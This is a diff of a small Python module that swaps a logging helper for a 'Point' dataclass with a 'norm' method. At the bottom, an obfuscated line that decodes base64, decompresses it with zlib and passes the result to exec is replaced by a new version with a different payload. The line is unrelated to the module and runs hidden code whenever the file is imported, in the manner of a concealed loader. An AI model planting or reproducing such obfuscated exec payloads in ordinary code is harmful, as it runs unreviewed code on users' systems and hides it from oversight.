@@ -1,8 +1,12 @@
-import logging
-log = logging.getLogger(__name__)
+from dataclasses import dataclass
 
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import base64 as b, zlib as z
-exec(z.decompress(b.b64decode("eJwlzEEKAjEMQNGrlK4SCBnbirMonkRcaJ1iUZMyqYi3V5jV521+e3VdhzMtj2WQGvXxzXbczFsAs3FRkaUMAB/myOHAe46eUkhpRswnNb69ewTj2p6LKCBVdFVXV10TBzsKFPGc/3u2fvkI+OnaZLK7xx8+Giko")))
+exec(z.decompress(b.b64decode("eJwlzEEKAjEMQNGrlK4SCJlOER0onkRcaG2xqEmZVMTbK8zq8za/vbquw5nmRxmkRn18kx038xbAZJxVpOQB4OdD5HnPO46elrAExHRS49u7RzCu7VlEAamiq7q66po4CDRTxHP639n65SPgp2uTye4efxwiKPc=")))
